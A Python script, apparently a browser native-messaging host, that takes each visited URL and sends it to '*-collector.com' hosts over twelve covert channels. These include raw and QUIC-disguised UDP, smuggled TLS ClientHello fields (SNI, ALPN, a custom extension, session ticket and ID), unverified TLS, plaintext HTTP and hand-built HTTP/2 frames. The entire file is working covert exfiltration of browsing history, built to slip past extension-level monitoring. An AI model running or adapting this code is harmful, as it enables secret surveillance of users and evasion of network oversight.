#!/usr/bin/env python3
"""Tells each address that it is given in ways that no extension has: by datagrams, in what a
ClientHello says, and under the name of the visited site. Each way has a collector of its own."""

import json
import os
import socket
import ssl
import struct
import sys
from urllib.parse import urlsplit

PATIENCE = 2


def collector(way):
    return f"{way}-collector.com"


def sized(width, value):
    return len(value).to_bytes(width, "big") + value


# Datagrams.


def datagram(way, port, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(payload, (socket.gethostbyname(collector(way)), port))


def long_header(token, rest):
    """What begins like the first packet of QUIC (RFC 9000, section 17.2.2), whatever is in it."""
    head = b"\xc3" + struct.pack(">I", 1) + sized(1, os.urandom(8)) + b"\0"
    head += struct.pack(">H", 0x4000 | len(token)) + token
    rest = rest.ljust(1200, b"\0")
    return head + struct.pack(">H", 0x4000 | len(rest)) + rest


def udp(url):
    datagram("udp", 4433, url.encode())


def token(url):
    datagram("token", 443, long_header(url.encode(), os.urandom(1200)))


def dressed(url):
    datagram("dressed", 443, long_header(b"", url.encode()))


# ClientHellos (RFC 8446, section 4.1.2).


def client_hello(name, alpn=b"http/1.1", session=None, more=()):
    def extension(number, value):
        return struct.pack(">H", number) + sized(2, value)

    extensions = extension(0, sized(2, b"\0" + sized(2, name.encode())))
    extensions += extension(10, sized(2, b"\0\x1d")) + extension(13, sized(2, b"\x04\x03\x08\x04"))
    extensions += extension(16, sized(2, sized(1, alpn))) + extension(43, b"\x02\x03\x04")
    extensions += extension(51, sized(2, b"\0\x1d" + sized(2, os.urandom(32))))
    extensions += b"".join(extension(number, value) for number, value in more)
    session = os.urandom(32) if session is None else session
    body = b"\x03\x03" + os.urandom(32) + sized(1, session) + sized(2, b"\x13\x01\x13\x02") + b"\x01\0"
    message = b"\x01" + sized(3, body + sized(2, extensions))
    return b"\x16\x03\x01" + sized(2, message)


def greet(way, hello):
    with socket.create_connection((collector(way), 443), PATIENCE) as stream:
        stream.sendall(hello)
        stream.recv(65536)


def sni(url):
    greet("sni", client_hello(urlsplit(url).hostname))


def label(url):
    host = urlsplit(url).hostname.split(".")[0].encode().hex()
    greet("label", client_hello(f"{host}.{collector('label')}"))


def alpn(url):
    greet("alpn", client_hello(collector("alpn"), alpn=url.encode()[:255]))


def extension(url):
    greet("extension", client_hello(collector("extension"), more=[(0xFAB1, url.encode())]))


def ticket(url):
    greet("ticket", client_hello(collector("ticket"), more=[(35, url.encode())]))


def session(url):
    greet("session", client_hello(collector("session"), session=urlsplit(url).hostname.encode()[:32]))


# Requests that look like a page's own, in a connection to the collector.


def connected(way, protocol):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    stream = socket.create_connection((collector(way), 443), PATIENCE)
    return context.wrap_socket(stream, server_hostname=collector(way))


def as_page(url):
    visited = urlsplit(url)
    target = (visited.path or "/") + (f"?{visited.query}" if visited.query else "")
    return target.encode(), visited.netloc.encode()


def request(url):
    target, host = as_page(url)
    return b"GET " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n"


def host(url):
    with connected("host", "http/1.1") as stream:
        stream.sendall(request(url))
        stream.recv(65536)


def clear(url):
    with socket.create_connection((collector("clear"), 80), PATIENCE) as stream:
        stream.sendall(request(url))
        stream.recv(65536)


def literal(index, value):
    """A field with a name of the static table and a value that is not packed (RFC 7541)."""
    left, length = len(value) - 127, bytes([min(len(value), 127)])
    while left >= 0:
        length += bytes([left & 127 | (128 if left > 127 else 0)])
        left = (left >> 7) or -1
    return bytes([index]) + length + value


def frame(kind, flags, stream, payload=b""):
    return sized(3, payload)[:3] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def authority(url):
    target, name = as_page(url)
    # GET and https, :path and :authority; it ends the headers and the stream.
    headers = frame(1, 5, 1, b"\x82\x87" + literal(4, target) + literal(1, name))
    with connected("authority", "h2") as stream:
        stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + headers)
        answer = stream.makefile("rb")
        while head := answer.read(9):
            answer.read(int.from_bytes(head[:3], "big"))
            if head[3] == 1:
                break


WAYS = [udp, token, dressed, sni, label, alpn, extension, ticket, session, host, clear, authority]

while head := sys.stdin.buffer.read(4):
    told = json.loads(sys.stdin.buffer.read(struct.unpack("=I", head)[0]))
    for way in WAYS:
        try:
            way(told)
        except OSError:
            # What is refused was sent all the same.
            pass
